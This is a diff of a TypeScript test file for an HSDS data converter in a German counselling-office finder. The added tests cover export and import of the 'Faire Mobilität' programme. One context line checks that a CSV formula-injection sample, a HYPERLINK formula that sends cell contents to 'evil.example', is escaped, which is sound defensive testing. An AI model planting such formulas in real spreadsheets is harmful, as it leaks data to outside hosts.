@@ -5,9 +5,11 @@ import { HsdsOrganization, HsdsService } from "@beratungsfinder/schemas/hsds";
 import { Ajv } from "ajv";
 import addFormatsModule from "ajv-formats";
 import { describe, expect, it } from "vitest";
+import { fixtureDataset, officeInput } from "../../test/office-fixture.js";
 import { readCsvObjects } from "../csv/csv-text.js";
 import { germanDataset } from "./fixtures/german-dataset.js";
 import { fromHsds, fromHsdsTables } from "./from-hsds.js";
+import type { HsdsRecord } from "./hsds-record.js";
 import { HSDS_TABLE_COLUMNS, toHsds, toHsdsTables } from "./to-hsds.js";
 
 const SCHEMA_DIR = fileURLToPath(new URL("../../../../fixtures/hsds-3.0/schema/", import.meta.url));
@@ -166,5 +168,53 @@ describe("toHsdsTables", () => {
     expect(cells.filter((cell) => /^"?[=+@]/.test(cell))).toEqual(["+49 171 2345678"]);
     expect(hostileTables["services.csv"]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
     expect(fromHsdsTables(hostileTables).dataset.offices[0]?.name).toBe(hostile.name);
+  });
+});
+
+describe("the programme Faire Mobilität in HSDS", () => {
+  const dataset = fixtureDataset([
+    officeInput({
+      id: "faire-mobilitaet-koeln",
+      providerId: "provider-dgb",
+      name: "Faire Mobilität Köln (fiktiv)",
+      programmes: ["FAIRE_MOBILITAET"],
+      languages: ["de", "pl", "ro", "bg"],
+      topics: ["work"],
+    }),
+  ]);
+  const organizations = toHsds(dataset);
+
+  it("exports it as the program Faire Mobilität, valid HSDS", () => {
+    expect(organizations[0]?.programs).toEqual([
+      expect.objectContaining({
+        name: "Faire Mobilität",
+        description: expect.stringContaining("workers from EU countries"),
+      }),
+    ]);
+    expect(validator.validate("organization.json", organizations[0])).toEqual([]);
+  });
+
+  it("keeps it through fromHsds and fromHsdsTables", () => {
+    const json = fromHsds(JSON.parse(JSON.stringify(organizations)));
+    expect(json.warnings).toEqual([]);
+    expect(json.dataset.offices).toEqual(dataset.offices);
+    const tables = fromHsdsTables(toHsdsTables(dataset));
+    expect(tables.warnings).toEqual([]);
+    expect(tables.dataset.offices).toEqual(dataset.offices);
+  });
+
+  it("recognises it on import by the program's or the service's name when the attribute is missing", () => {
+    const withoutAttributes = JSON.parse(JSON.stringify(organizations)) as HsdsRecord[];
+    for (const service of withoutAttributes.flatMap((organization) => organization.services as HsdsRecord[]))
+      service.attributes = [];
+    expect(fromHsds(withoutAttributes).dataset.offices[0]?.programmes).toEqual(["FAIRE_MOBILITAET"]);
+
+    const byServiceName = JSON.parse(JSON.stringify(withoutAttributes)) as HsdsRecord[];
+    for (const organization of byServiceName) organization.programs = [];
+    for (const service of byServiceName.flatMap((organization) => organization.services as HsdsRecord[])) {
+      delete service.program_id;
+      service.name = "Beratungsstelle Faire Mobilitaet Köln";
+    }
+    expect(fromHsds(byServiceName).dataset.offices[0]?.programmes).toEqual(["FAIRE_MOBILITAET"]);
   });
 });
